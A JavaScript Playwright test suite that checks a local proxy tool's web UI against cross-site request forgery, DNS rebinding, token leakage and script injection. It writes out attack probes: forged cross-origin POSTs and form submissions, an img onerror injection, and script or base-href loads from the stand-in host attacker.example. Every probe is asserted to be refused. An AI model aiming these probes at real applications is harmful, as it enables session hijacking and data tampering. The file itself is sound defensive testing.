// The door against a real browser that is signed in: what pages of other sites, of other
// ports of this machine and of rebound names can make it send, and where the token goes.
import assert from "node:assert/strict";
import http from "node:http";
import { after, before, test } from "node:test";
import { chromium } from "playwright-core";
import { executable } from "./browser.mjs";
import { startInstance } from "./instance.mjs";

let instance, browser, attacker, context, page, at, token;
const sent = []; // requests of the signed-in page, with their fields

before(async () => {
  instance = await startInstance({ command: "serve" });
  const link = new URL(instance.ui);
  at = link.host;
  token = link.hash.slice("#token=".length);
  attacker = http.createServer((req, res) => res.writeHead(200, { "Content-Type": "text/html" }).end("<!doctype html><title>attacker</title>"));
  await new Promise((ok) => attacker.listen(0, "127.0.0.1", ok));
  // The browser's own protection of this machine is off: ours has to do.
  browser = await chromium.launch({ executablePath: executable, args: ["--no-sandbox", "--disable-dev-shm-usage", "--no-proxy-server", "--host-resolver-rules=MAP *.example 127.0.0.1", "--disable-features=LocalNetworkAccessChecks"] });
  context = await browser.newContext();
  page = await context.newPage();
  page.on("request", async (r) => sent.push({ method: r.method(), url: r.url(), body: r.postData() ?? "", fields: await r.allHeaders() }));
  await page.goto(instance.ui);
  await page.waitForFunction(() => fetch("/v1/door").then((r) => r.status === 204));
});

after(async () => {
  await browser?.close();
  attacker?.close();
  await instance?.close();
});

/** A page of another origin in the same browser, which has the cookie. */
async function elsewhere(host) {
  const p = await context.newPage();
  await p.goto(`http://${host}:${attacker.address().port}/`);
  return p;
}

test("the token leaves the address, and is in one request's body alone", async () => {
  assert.equal(await page.evaluate(() => location.hash.includes("token")), false);
  const readable = await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, history.state, document.documentElement.outerHTML]));
  assert.equal(readable.includes(token), false, readable);
  assert.equal(await page.evaluate(() => document.cookie), "");
  const carriers = sent.filter((r) => JSON.stringify(r).includes(token));
  assert.deepEqual(
    carriers.map((r) => [r.method, new URL(r.url).pathname]),
    [["POST", "/v1/door"]],
  );
  for (const r of sent) {
    assert.equal(r.url.includes("token"), false, r.url);
    assert.equal(r.fields.referer, undefined, `${r.url} has a Referer`);
  }
  await page.goBack().catch(() => {});
  await page.goForward().catch(() => {});
  assert.equal(page.url().includes(token), false);
  await page.goto(`http://${at}/`);
});

test("a rebound name gets nothing", async () => {
  const port = new URL(`http://${at}`).port;
  const p = await context.newPage();
  const r = await p.goto(`http://rebound.example:${port}/`);
  assert.equal(r.status(), 403);
  // Before the name was rebound, it gave out a page of its own.
  await p.route("**/own", (route) => route.fulfill({ contentType: "text/html", body: "<!doctype html>" }));
  await p.goto(`http://rebound.example:${port}/own`);
  for (const path of ["/v1/status", "/v1/flows", "/assets/app.js", "/root.pem"]) assert.equal(await p.evaluate((u) => fetch(u).then((r) => r.status), path), 403, path);
  const got = await p.evaluate((t) => fetch("/v1/door", { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ token: t }) }).then((r) => r.status), token);
  assert.equal(got, 403);
  await p.close();
});

for (const [name, host] of [
  ["another site", "attacker.example"],
  ["another port of this machine", "127.0.0.1"],
  ["this machine by another name", "localhost"],
]) {
  test(`a page of ${name} reads nothing and changes nothing`, async () => {
    await page.evaluate(() => fetch("/v1/preferences", { method: "PUT", headers: { "Content-Type": "application/json" }, body: '{"kept":1}' }));
    const p = await elsewhere(host);
    const tried = await p.evaluate(async (base) => {
      const out = {};
      const read = (name, path, init) =>
        fetch(base + path, { credentials: "include", ...init }).then(
          async (r) => (out[name] = `${r.type} ${await r.text()}`),
          () => (out[name] = "refused"),
        );
      await read("fetch", "/v1/status");
      await read("fetch without cors", "/v1/flows", { mode: "no-cors" });
      await read("change without cors", "/v1/clear?pinned=true", { mode: "no-cors", method: "POST" });
      await read("a form's body", "/v1/preferences", { mode: "no-cors", method: "POST", headers: { "Content-Type": "text/plain" }, body: "{}" });
      await read("a preflight", "/v1/preferences", { method: "PUT", headers: { "Content-Type": "application/json" }, body: '{"kept":2}' });
      await read("sign out", "/v1/door", { method: "DELETE" });
      const event = (name, make) =>
        new Promise((ok) => {
          const [thing, good, bad] = make();
          thing[good] = () => ((out[name] = "came"), ok());
          thing[bad] = () => ((out[name] = "refused"), ok());
        });
      const element = (tag, path, attribute = "src") => () => {
        const e = Object.assign(document.createElement(tag), { [attribute]: base + path });
        if (tag === "link") e.rel = "stylesheet";
        document.body.append(e);
        return [e, "onload", "onerror"];
      };
      await event("an event stream", () => [new EventSource(`${base}/v1/changes`, { withCredentials: true }), "onmessage", "onerror"]);
      await event("a WebSocket", () => [new WebSocket(`${base.replace("http", "ws")}/v1/changes`), "onopen", "onerror"]);
      await event("a script", element("script", "/v1/flows"));
      await event("a script of the page", element("script", "/assets/app.js"));
      await event("an image", element("img", "/assets/icon.svg"));
      await event("a style", element("link", "/assets/style.css", "href"));
      const form = Object.assign(document.createElement("form"), { method: "post", enctype: "text/plain", action: `${base}/v1/preferences`, target: "in" });
      const frame = Object.assign(document.createElement("iframe"), { name: "in" });
      document.body.append(frame, form);
      form.submit();
      await new Promise((ok) => (frame.onload = ok));
      const shell = Object.assign(document.createElement("iframe"), { src: `${base}/` });
      await new Promise((ok) => ((shell.onload = ok), document.body.append(shell)));
      try {
        out["a frame"] = shell.contentDocument ? "blank" : "apart";
      } catch {
        out["a frame"] = "apart";
      }
      const opened = open(`${base}/v1/status`, "w");
      await new Promise((ok) => setTimeout(ok, 300));
      try {
        out["a window"] = opened?.document.body.innerText.includes("pid") ? "read" : "nothing";
      } catch {
        out["a window"] = "nothing";
      }
      opened?.close();
      return out;
    }, `http://${at}`);
    for (const [what, got] of Object.entries(tried)) assert.match(got, /^(refused|opaque $|apart|nothing|blank)/, `${what}: ${got}`);
    const shells = p.frames().filter((f) => f.url().startsWith(`http://${at}/`));
    for (const f of shells) assert.equal(await f.evaluate(() => document.getElementById("root") !== null).catch(() => false), false, "the page is in a frame");
    await p.close();
    assert.deepEqual(await page.evaluate(() => fetch("/v1/preferences").then((r) => r.json())), { kept: 1 });
    assert.equal(await page.evaluate(() => fetch("/v1/door").then((r) => r.status)), 204);
  });
}

test("the page itself runs no script that was not its file", async () => {
  const blocked = await page.evaluate(async (base) => {
    const out = {};
    const ran = async (name, make) => {
      globalThis.ran = false;
      const refused = new Promise((ok) => document.addEventListener("securitypolicyviolation", () => ok("refused"), { once: true }));
      try {
        make();
      } catch {
        out[name] = "refused";
        return;
      }
      out[name] = await Promise.race([refused, new Promise((ok) => setTimeout(() => ok(globalThis.ran ? "ran" : "nothing"), 500))]);
    };
    await ran("inline", () => document.body.append(Object.assign(document.createElement("script"), { text: "globalThis.ran = true" })));
    await ran("eval", () => (0, eval)("globalThis.ran = true"));
    await ran("markup", () => (document.body.innerHTML += '<img src=x onerror="globalThis.ran = true">'));
    await ran("what the API answers", () => document.body.append(Object.assign(document.createElement("script"), { src: "/v1/flows" })));
    await ran("another host", () => document.body.append(Object.assign(document.createElement("script"), { src: "http://attacker.example/x.js" })));
    await ran("a worker of a blob", () => new Worker(URL.createObjectURL(new Blob(["1"]))));
    await ran("a worker of the API", () => new Worker("/v1/flows"));
    await ran("a service worker", () => navigator.serviceWorker.register("/v1/flows").catch(() => {}));
    await ran("a request to another host", () => void fetch("http://attacker.example/").catch(() => {}));
    await ran("another base", () => document.head.append(Object.assign(document.createElement("base"), { href: "http://attacker.example/" })));
    return out;
  }, `http://${at}`);
  for (const [what, got] of Object.entries(blocked)) assert.equal(got, "refused", what);
});

test("a link for one use lets in one browser", async () => {
  const { url } = JSON.parse(await socket("POST", "/v1/door/link"));
  const enter = async () => {
    const c = await browser.newContext();
    const p = await c.newPage();
    const answered = p.waitForResponse((r) => r.url().endsWith("/v1/door") && r.request().method() === "POST");
    await p.goto(url);
    const status = (await answered).status();
    await c.close();
    return status;
  };
  assert.equal(await enter(), 204);
  assert.equal(await enter(), 403);
});

/** Asks on the control socket, as programs do. */
function socket(method, path) {
  return new Promise((ok, no) => {
    const r = http.request({ socketPath: `${instance.data}/rockxy.sock`, method, path, headers: { Host: "rockxy" } }, async (res) => {
      let text = "";
      for await (const c of res) text += c;
      ok(text);
    });
    r.on("error", no).end();
  });
}
